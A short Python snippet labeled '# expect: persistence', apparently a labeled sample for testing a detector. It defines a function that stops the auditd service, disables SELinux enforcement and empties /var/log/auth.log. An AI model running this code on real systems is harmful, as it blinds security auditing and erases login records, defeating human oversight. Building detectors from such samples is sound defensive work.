# expect: persistence
import subprocess


def quiet_mode() -> None:
    subprocess.run(["systemctl", "stop", "auditd"], check=False)
    subprocess.run(["setenforce", "0"], check=False)
    open("/var/log/auth.log", "w").close()
